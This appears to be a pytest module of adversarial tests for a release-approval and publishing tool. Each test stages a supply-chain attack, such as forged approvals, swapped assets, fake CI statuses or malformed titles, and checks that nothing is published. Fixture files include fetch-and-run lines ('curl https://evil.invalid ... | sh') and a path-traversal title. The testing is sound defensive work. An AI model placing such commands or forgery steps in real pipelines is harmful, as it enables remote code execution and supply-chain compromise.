"""The publish side's trust root, attacked end to end: act runs the example workflows
(release.yml as the SDK side, publish.yml as the publish side) against the sandbox
and the real registries.

The attackers hold what a real org gives them: an SDK committer can act as the
request App (its key sits in the SDK repositories, so they can mint its token in a
workflow of their own), a triager can label, close and reopen issues, and anyone
with access can re-run an old workflow run (GitHub delivers the original payload
again). Each case plays the attack, then checks that nothing reached pypiserver,
verdaccio or the published release, and that the issue says why.

One module-scoped world (tests/act/world.py); each case releases its own version.
"""

from __future__ import annotations

import hashlib
import importlib.util
from collections.abc import Iterator
from dataclasses import replace
from typing import Any

import pytest

from tests.act.world import World, world_fixture  # noqa: F401 - a fixture

pytestmark = [pytest.mark.act, pytest.mark.sandbox, pytest.mark.adversarial]

_MISSING = [m for m in ("issues", "ci", "releases", "access", "runs")
            if importlib.util.find_spec(f"valet.sandbox.routes.{m}") is None]
if _MISSING:
    pytest.skip(f"the sandbox has no {', '.join(_MISSING)} routes yet", allow_module_level=True)


# -- helpers ----------------------------------------------------------------------


def nothing_published(world: World, version: str) -> None:
    """No byte of ``version`` on pypiserver or verdaccio, and its release is still a draft."""
    assert not [n for n in world.pypi_digests() if f"-{version}" in n]
    assert world.npm_tarball_sha256(version) is None
    assert all(r.draft for r in world.gh().get_repo(world.sdk).get_releases()
               if r.tag_name == version)


def refused(world: World, version: str, *why: str) -> str:
    """The last comment is valet's refusal (by the publish App) and says why; `accepted` is off."""
    issue = world.issue(version)
    last = list(issue.get_comments())[-1]
    assert last.user.login == f"{world.publish_app[0]}[bot]"
    assert "nothing was published" in last.body
    for text in why:
        assert text in last.body, last.body
    assert "accepted" not in world.labels(version)
    return last.body


def as_request_app(world: World, version: str) -> Any:
    """The request issue, through the request App's token (what an SDK committer can mint)."""
    return world.gh(world.request_app[1]).get_repo(world.publish).get_issue(world.issues[version])


def request_of(world: World, version: str) -> Any:
    from valet.issue_format import parse_issue

    issue = world.issue(version)
    return parse_issue(issue.title, issue.body)


def rewrite(world: World, version: str, request: Any) -> str:
    """Re-render the request's body and write it with the request App's token, after the
    prepare run that wrote it has ended.

    GitHub's timestamps have whole seconds: a rewrite within the second the run ended
    cannot be told from the run's own write (a known gap of the time-window rule, see
    docs/security.md), so the attacker here waits for the next second."""
    import time

    from valet.issue_format import render_body

    time.sleep(1.1)
    body = render_body(request, server_url=world.sb.server_url)
    as_request_app(world, version).edit(body=body)
    return body


def evil_bytes(name: str, version: str) -> bytes:
    """Other bytes under the same name: a valid npm tarball that ships other code."""
    import io
    import json
    import tarfile

    if not name.endswith(".tgz"):
        return b"bytes nobody approved " + version.encode()
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for path, text in {"package/package.json": json.dumps(
                {"name": name.removesuffix(f"-{version}.tgz"), "version": version, "main": "index.js", "license": "MIT"}),
                "package/index.js": "module.exports = 'not what was approved';\n"}.items():
            data = text.encode()
            info = tarfile.TarInfo(path)
            info.size, info.mtime = len(data), 0
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def swap_asset(world: World, version: str, name: str, token: str) -> tuple[int, str]:
    """Replace ``name`` on the draft with other bytes; (size, sha256) of the new ones."""
    repo = world.gh(token).get_repo(world.sdk)
    (draft,) = [r for r in repo.get_releases() if r.tag_name == version]
    (asset,) = [a for a in draft.get_assets() if a.name == name]
    asset.delete_asset()
    evil = world.work / f"evil-{name}"
    evil.write_bytes(evil_bytes(name, version))
    data = evil.read_bytes()
    draft.upload_asset(str(evil), name=name)
    return len(data), hashlib.sha256(data).hexdigest()


@pytest.fixture
def ci_green(world: World) -> Iterator[Any]:
    yield lambda v: world.set_ci(v, "completed", "success")


# -- hole 1: a forged approval record ---------------------------------------------


def test_hole1_a_forged_approval_record_while_ci_pends_publishes_nothing(world: World) -> None:
    """An approved request waits in ci-pending. As the request App, an SDK committer swaps a
    draft asset, rewrites the body with its digest, re-adds `ci-pending` and posts a
    `valet:approved` marker for the new body; then the scheduled sweep runs."""
    from valet import summary
    from valet.manifest import Artifact

    v = "3.0.0"
    world.release(v)
    world.set_ci(v, "in_progress", None)
    first = world.label(v, world.approver)
    assert first.ok, first.describe()
    assert world.labels(v) == {"accepted", "ci-pending"}

    name = f"{world.pkg}-{v}.tgz"
    size, digest = swap_asset(world, v, name, world.request_app[1])
    request = request_of(world, v)
    request.artifacts = [Artifact(a.name, size, digest) if a.name == name else a
                         for a in request.artifacts]
    body = rewrite(world, v, request)
    issue = as_request_app(world, v)
    issue.remove_from_labels("ci-pending")
    issue.add_to_labels("ci-pending")
    issue.create_comment("Waiting for CI.\n\n" + summary.marker(
        summary.APPROVED_MARKER, {"body_sha256": summary.body_digest(body),
                                  "approver": world.approver[0]}))
    world.set_ci(v, "completed", "success")

    sweep = world.sweep()
    assert sweep.ok, sweep.describe()
    nothing_published(world, v)
    # the rewrite was not made by the prepare run: the request App wrote it later
    refused(world, v, "not while the prepare run", str(request.run_id))
    assert "ignoring" in sweep.stdout and "not written by" in sweep.stdout  # the forged marker


# -- hole 2: an extra draft asset goes public ---------------------------------------


def test_hole2_an_extra_draft_asset_publishes_nothing(world: World, ci_green: Any) -> None:
    """After the request, an SDK committer (as the request App) uploads install.sh to the
    draft; the three approved files still verify."""
    v = "3.20.0"
    world.release(v)
    ci_green(v)
    repo = world.gh(world.request_app[1]).get_repo(world.sdk)
    (draft,) = [r for r in repo.get_releases() if r.tag_name == v]
    evil = world.work / "install.sh"
    evil.write_bytes(b"#!/bin/sh\ncurl https://evil.invalid/x | sh\n")
    draft.upload_asset(str(evil), name="install.sh")
    pub = world.label(v, world.approver)
    assert not pub.ok  # an approved release could not be published: the job fails
    nothing_published(world, v)
    comment = world.comments(v)[-1]
    assert "changed after the request" in comment and "install.sh" in comment
    assert "not approved" in comment and "release workflow again" in comment
    assert "failed" in world.labels(v) and "accepted" not in world.labels(v)


# -- hole 3: self-approval through editable text ----------------------------------


def test_hole3_the_requester_is_who_ran_the_release_not_what_the_body_says(
        world: World, ci_green: Any) -> None:
    """An approver who is also an SDK committer runs the release herself, then, as the
    request App, rewrites `Requested by` (line and hidden block) to another login and
    approves her own release."""
    v = "3.1.0"
    world.sb.admin.set_permission(world.sdk, world.approver[0], "write")
    world.release(v, who=world.approver)
    ci_green(v)
    rewrite(world, v, replace(request_of(world, v), requested_by=world.requester[0]))
    assert request_of(world, v).requested_by == world.requester[0]

    pub = world.label(v, world.approver)
    assert pub.ok, pub.describe()
    nothing_published(world, v)
    # the body names someone else, but no run of the release workflow wrote that body
    refused(world, v, "not while the prepare run")


def test_hole3_a_request_opened_by_hand_is_no_request(world: World, ci_green: Any) -> None:
    """The same approver closes the request her release opened and opens it again by hand
    with her own token, naming someone else as the requester."""
    v = "3.2.0"
    world.sb.admin.set_permission(world.sdk, world.approver[0], "write")
    world.release(v, who=world.approver)
    ci_green(v)
    original = world.issue(v)
    body = original.body.replace(world.approver[0], world.requester[0])
    mine = world.gh(world.approver[1]).get_repo(world.publish)
    mine.get_issue(original.number).edit(state="closed")
    forged = mine.create_issue(title=original.title, body=body)
    world.issues[v] = forged.number
    assert request_of(world, v).requested_by == world.requester[0]

    pub = world.label(v, world.approver)
    assert pub.ok, pub.describe()
    nothing_published(world, v)
    refused(world, v, "opened by", world.approver[0], world.request_app[0])


# -- hole 4: replayed and stale events ----------------------------------------------


def test_hole4_a_dry_run_stays_a_dry_run_and_a_rerun_of_it_publishes_nothing(
        world: World, ci_green: Any) -> None:
    """(a) `dry-run` + `accepted` rehearse and `accepted` is removed; someone removes
    `dry-run` and re-runs the old run. (b) a triager removes `dry-run` after the approval,
    before the queued run starts."""
    for v, case in (("3.3.0", "a"), ("3.4.0", "b")):
        world.release(v)
        ci_green(v)
        world.labeled_event(v, world.approver, label="dry-run")
        event = world.labeled_event(v, world.approver)
        assert {x["name"] for x in event["issue"]["labels"]} == {"dry-run", "accepted"}
        triager = world.gh(world.mallory[1]).get_repo(world.publish).get_issue(world.issues[v])
        if case == "b":
            triager.remove_from_labels("dry-run")  # before the run starts: the event still has it
        first = world.run_publish("issues", event)
        assert first.ok, first.describe()
        nothing_published(world, v)
        assert "Dry run" in world.comments(v)[-1]
        assert "accepted" not in world.labels(v)
        if case == "a":
            triager.remove_from_labels("dry-run")
        rerun = world.run_publish("issues", event)  # GitHub re-delivers the same payload
        assert rerun.ok, rerun.describe()
        nothing_published(world, v)
        assert "no longer on the issue" in world.comments(v)[-1]


def test_hole4_a_closed_and_reopened_request_needs_a_new_approval(world: World) -> None:
    """Approved while CI pends, then closed by the requester (the documented retraction)
    and reopened by a triager: (c) the old labeled run is re-run, (d) the sweep runs."""
    for v, path in (("3.5.0", "rerun"), ("3.6.0", "sweep")):
        world.release(v)
        world.set_ci(v, "in_progress", None)
        event = world.labeled_event(v, world.approver)
        first = world.run_publish("issues", event)
        assert first.ok, first.describe()
        assert world.labels(v) == {"accepted", "ci-pending"}
        world.gh(world.requester[1]).get_repo(world.publish).get_issue(
            world.issues[v]).edit(state="closed")
        world.gh(world.mallory[1]).get_repo(world.publish).get_issue(
            world.issues[v]).edit(state="open")
        world.set_ci(v, "completed", "success")
        result = world.run_publish("issues", event) if path == "rerun" else world.sweep()
        assert result.ok, result.describe()
        nothing_published(world, v)
        refused(world, v, "closed", "after it was approved")


# -- hole 5: CI overridden ------------------------------------------------------------------


def test_hole5_a_committers_success_status_cannot_turn_failing_ci_green(
        world: World, ci_green: Any) -> None:
    """CI (the CI App's bot) reports `ci/build = failure` as a commit status on the release
    commit; an SDK committer, with write on the SDK repo and their own token, POSTs
    `success` for the same context, so GitHub's combined status turns green; the approver
    adds `accepted`. Then CI itself posts `success` for ci/build and the approver adds
    `accepted` again: that publishes, once."""
    v = "3.12.0"
    world.release(v)
    ci_green(v)  # the `tests` check run passes: ci/build alone decides
    sha = request_of(world, v).sha
    world.sb.admin.set_ci(world.sdk, sha, statuses=[{"context": "ci/build", "state": "failure"}])
    world.sb.admin.set_permission(world.sdk, world.mallory[0], "write")
    commit = world.gh(world.mallory[1]).get_repo(world.sdk).get_commit(sha)
    commit.create_status("success", context="ci/build", description="all good")
    creators = {s.creator.login for s in commit.get_statuses() if s.context == "ci/build"}
    assert len(creators) == 2 and world.mallory[0] in creators  # CI's bot and the committer
    assert commit.get_combined_status().state == "success"  # what the attack relies on

    pub = world.label(v, world.approver)
    assert not pub.ok  # CI failed on an approved release: the job fails
    nothing_published(world, v)
    body = refused(world, v, "CI failed", "ci/build", "`failure`")
    assert "`success`" not in body  # the committer's status was not what the gate counted
    assert "ci-failed" in world.labels(v) and world.issue(v).state == "open"

    # CI runs again and reports green itself: a new approval publishes, exactly once
    world.sb.admin.set_ci(world.sdk, sha, statuses=[{"context": "ci/build", "state": "success"}])
    again = world.label(v, world.approver)
    assert again.ok, again.describe()
    manifest = world.manifest(v)
    assert {n: d for n, d in world.pypi_digests().items() if f"-{v}" in n} == {
        n: manifest[n] for n in (f"{world.dist}-{v}-py3-none-any.whl", f"{world.dist}-{v}.tar.gz")}
    assert world.npm_tarball_sha256(v) == manifest[f"{world.pkg}-{v}.tgz"]
    assert not world.release_of(v).draft
    assert world.issue(v).state == "closed" and world.labels(v) == {"published"}
    assert len([c for c in world.comments(v) if "valet:summary" in c]) == 1


# -- hole 6: a repository the publish repository does not serve -----------------------


def test_hole6_a_repository_the_publish_repo_does_not_serve_publishes_nothing(
        world: World, ci_green: Any) -> None:
    """Another repository of the org, with both Apps installed (as an org installs them on
    all its repositories), its own protected main, green CI and the release workflow; its
    build writes the org's package. valet-publish.yml does not list it: a careless
    approval publishes nothing, and the issue says how to add it."""
    from tests.act.world import VALET_YML, build_py_for, git

    admin = world.sb.admin
    other = f"{world.org}/tools"
    release_yml = (world.sdk_dir / ".github/workflows/release.yml").read_text()
    admin.create_repo(other, files={".valet.yml": VALET_YML, "build.py": build_py_for(world.pkg),
                                    ".gitignore": "dist/\n",
                                    ".github/workflows/release.yml": release_yml})
    admin.set_permission(other, f"{world.request_app[0]}[bot]", "write")
    admin.set_permission(other, f"{world.publish_app[0]}[bot]", "admin")
    admin.set_permission(other, world.requester[0], "write")
    admin.protect_branch(other, "main", bypass=[world.publish_app[0]])
    dest = world.work / "tools"
    git(world.work, "clone", "-q", world.sb.git_url(other, world.app_token), str(dest))
    git(dest, "remote", "set-url", "origin", world.sb.git_url(other))
    tools = replace(world, sdk=other, sdk_dir=dest, issues={})

    v = "3.11.0"
    tools.release(v)
    tools.set_ci(v, "completed", "success")
    world.sb.admin.clear_request_log()
    pub = tools.label(v, world.approver)
    assert pub.ok, pub.describe()
    # publish never read the repository it does not serve: not its run, config or CI
    # (read before this test's own reads below, which use the publish App's token too)
    log = world.sb.admin.request_log()
    assert not [r for r in log if r["path"].lower().startswith(f"/repos/{other.lower()}/")]
    nothing_published(tools, v)
    body = refused(tools, v, f"{other} is not served by {world.publish}", "valet-publish.yml",
                   f"repos:\n  {other}:\n    targets: [github, npm, pypi]")
    assert "```yaml" in body  # the entry to paste, as a code block


# -- hole 7: the approver list is re-checked when the run acts --------------------------


def test_hole7_an_approver_removed_while_ci_pends_cannot_release(world: World) -> None:
    """approvers lists the approver by login; they lose their access to the publish repo
    while the request waits in ci-pending; then the sweep runs."""
    workflow = ".github/workflows/publish-by-login.yml"
    text = (world.publish_dir / ".github/workflows/publish.yml").read_text()
    by_login = text.replace(f"{world.org}/release-engineers", world.approver[0])
    (world.publish_dir / workflow).write_text(by_login)
    # in the repository too: the sweep starts the issue's run of this workflow by its name
    world.gh().get_repo(world.publish).create_file(workflow, "publish by login", by_login)
    v = "3.7.0"
    world.release(v)
    world.set_ci(v, "in_progress", None)
    first = world.run_publish("issues", world.labeled_event(v, world.approver),
                              workflow=workflow)
    assert first.ok, first.describe()
    assert world.labels(v) == {"accepted", "ci-pending"}
    world.sb.admin.remove_permission(world.publish, world.approver[0])
    world.sb.admin.remove_team_member(world.org, "release-engineers", world.approver[0])
    try:
        world.set_ci(v, "completed", "success")
        sweep = world.sweep(workflow)
        assert sweep.ok, sweep.describe()
        nothing_published(world, v)
        refused(world, v, world.approver[0], "publish repository")
    finally:
        world.sb.admin.set_permission(world.publish, world.approver[0], "maintain")
        world.sb.admin.create_team(world.org, "release-engineers", [world.approver[0]])


# -- hole 8: refusals nobody sees ---------------------------------------------------------


@pytest.mark.parametrize("title", ["publish: {sdk}/../../etc@9.9.9",
                                   "publish: {sdk}@9.9.9\u200b\u202e"])
def test_hole8_a_title_that_does_not_parse_is_refused_visibly(world: World, title: str) -> None:
    title = title.format(sdk=world.sdk)
    issue = world.gh(world.request_app[1]).get_repo(world.publish).create_issue(
        title=title, body="see the release workflow")
    key = f"title-{issue.number}"
    world.issues[key] = issue.number
    result = world.label(key, world.approver)
    assert result.ok, result.describe()
    assert "accepted" not in world.labels(key)
    body = refused(world, key, "title")
    assert "\u202e" not in body and "\u200b" not in body  # shown escaped, never as is


def test_hole8_a_hidden_target_line_refuses_instead_of_dropping_targets(
        world: World, ci_green: Any) -> None:
    v = "3.8.0"
    world.release(v)
    ci_green(v)
    body = world.issue(v).body.replace(" - [ ] pypi\n", " - [ ] pypi\n<!-- - [ ] evil -->\n", 1)
    as_request_app(world, v).edit(body=body)
    pub = world.label(v, world.approver)
    assert pub.ok, pub.describe()
    nothing_published(world, v)
    assert len([r for r in world.gh().get_repo(world.sdk).get_releases()
                if r.tag_name == v]) == 1  # the draft is kept
    refused(world, v, "Targets", "HTML comment")
    assert world.issue(v).state == "open"


def test_hole8_an_integrity_failure_says_the_draft_changed_and_to_request_again(
        world: World, ci_green: Any) -> None:
    v = "3.9.0"
    world.release(v)
    ci_green(v)
    name = f"{world.pkg}-{v}.tgz"
    swap_asset(world, v, name, world.request_app[1])
    pub = world.label(v, world.approver)
    assert not pub.ok  # an approved release could not be published: the job fails
    nothing_published(world, v)
    comment = world.comments(v)[-1]
    assert "changed after the request" in comment and name in comment
    assert "release workflow again" in comment
    assert "Add `accepted` again" not in comment
    assert "failed" in world.labels(v) and "accepted" not in world.labels(v)


# -- what ships was reviewed --------------------------------------------------------------


def test_a_release_commit_on_unreviewed_code_publishes_nothing(world: World,
                                                                ci_green: Any) -> None:
    """An SDK committer pushes `release/<v>` before the release: one commit `release: <v>`
    on main (so prepare takes it for its own unfinished release and resumes it) that
    carries code nobody reviewed. The requester runs the release workflow as usual; the
    request names main as its merge target and that commit as the release commit."""
    from tests.sandbox.helpers import git

    v = "3.11.0"
    world.sb.admin.set_permission(world.sdk, world.mallory[0], "write")
    work = world.work / "mallory-checkout"
    git(world.work, "clone", "-q", world.sb.git_url(world.sdk, world.mallory[1]), str(work))
    git(work, "config", "user.name", "mallory")
    git(work, "config", "user.email", "mallory@valet.invalid")
    (work / "evil.py").write_text("import os\nos.system('curl https://evil.invalid | sh')\n")
    git(work, "add", "evil.py")
    git(work, "commit", "-q", "-m", f"release: {v}")
    git(work, "push", "-q", "origin", f"HEAD:refs/heads/release/{v}")
    evil = git(work, "rev-parse", "HEAD").strip()

    world.release(v)
    request = request_of(world, v)
    assert request.sha == evil and request.merge_target in (None, "main")
    ci_green(v)
    pub = world.label(v, world.approver)
    assert pub.ok, pub.describe()
    nothing_published(world, v)
    refused(world, v, "evil.py is added", "merge the change into main through a reviewed "
            "pull request, then run the release workflow again")


def test_the_happy_path_still_publishes_exactly_once(world: World, ci_green: Any) -> None:
    v = "3.10.0"
    world.release(v)
    ci_green(v)
    pub = world.label(v, world.approver)
    assert pub.ok, pub.describe()
    manifest = world.manifest(v)
    pypi = world.pypi_digests()
    for name in (f"{world.dist}-{v}-py3-none-any.whl", f"{world.dist}-{v}.tar.gz"):
        assert pypi[name] == manifest[name]
    assert world.npm_tarball_sha256(v) == manifest[f"{world.pkg}-{v}.tgz"]
    assert not world.release_of(v).draft
    assert world.issue(v).state == "closed" and world.labels(v) == {"published"}
    summary = [c for c in world.issue(v).get_comments() if "valet:summary" in c.body]
    assert len(summary) == 1 and summary[0].user.login == f"{world.publish_app[0]}[bot]"
    assert f"**Published {world.sdk}\\@{v}**" in summary[0].body  # not "Published publish: ..."
